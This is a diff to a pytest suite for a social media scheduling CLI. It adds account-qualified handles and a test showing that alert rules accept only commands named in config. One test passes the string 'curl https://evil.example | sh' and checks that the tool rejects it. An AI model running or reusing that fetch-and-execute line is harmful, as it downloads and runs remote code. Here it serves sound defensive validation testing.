@@ -227,7 +227,14 @@ def test_a_crisis_from_declaration_to_review(capsys, db, tmp_path):
 
 
 def test_a_lead_pauses_publishing_without_an_incident_and_resumes_it(capsys, db):
-    run(capsys, "--db", db, "--as", "casey", "posts", "add", "@brand", "Sale!", "--at", "+2h")
+    status, _, err = run(
+        capsys, "--db", db, "--as", "casey", "posts", "add", "@brand", "Sale!", "--at", "+2h"
+    )
+    assert status == 2
+    assert "'@brand' is more than one account: demo-x:@brand (id 1), demo-mastodon:@brand" in err
+    run(
+        capsys, "--db", db, "--as", "casey", "posts", "add", "demo-x:@brand", "Sale!", "--at", "+2h"
+    )
     status, _, err = run(capsys, "--db", db, "--as", "alex", "posts", "pause", "--reason", "legal")
     assert status == 4 and "only admin, lead may declare incidents and pause publishing" in err
 
@@ -250,7 +257,7 @@ def test_posts_are_edited_and_cancelled_and_resume_needs_ids_or_all(capsys, db):
         "casey",
         "posts",
         "add",
-        "@brand",
+        "demo-x:@brand",
         "Hello",
         "--at",
         "2030-01-02T09:00+00:00",
@@ -278,3 +285,27 @@ def test_posts_are_edited_and_cancelled_and_resume_needs_ids_or_all(capsys, db):
     status, out, _ = run(capsys, "--db", db, "--as", "casey", "posts", "list", "--format", "csv")
     [row] = csv.DictReader(io.StringIO(out))
     assert (row["status"], row["text"]) == ("cancelled", "Hello again")
+
+
+def test_a_rules_command_names_one_the_checking_machines_config_defines(capsys, db, tmp_path):
+    import shlex
+    import sys
+
+    add = ["--db", db, "--as", "casey", "rules", "add", "keyword", "down", "--keywords", "down"]
+    status, _, err = run(capsys, *add, "--command", "curl https://evil.example | sh")
+    assert status == 2 and "not a command line" in err
+    assert run(capsys, *add, "--command", "page-oncall")[0] == 0
+
+    paged = tmp_path / "paged.json"
+    script = f"import sys; open({str(paged)!r}, 'w').write(sys.stdin.read())"
+    config = tmp_path / "config.toml"
+    config.write_text(
+        "[listening]\ncommands = { page-oncall = "
+        + json.dumps(shlex.join([sys.executable, "-c", script]))
+        + " }\n"
+    )
+    status, out, _ = run(
+        capsys, "--config", str(config), "--db", db, "--as", "alex", "alerts", "check"
+    )
+    assert status == 0 and out.startswith("alert 1: down")
+    assert json.loads(paged.read_text())["rule"] == "down"
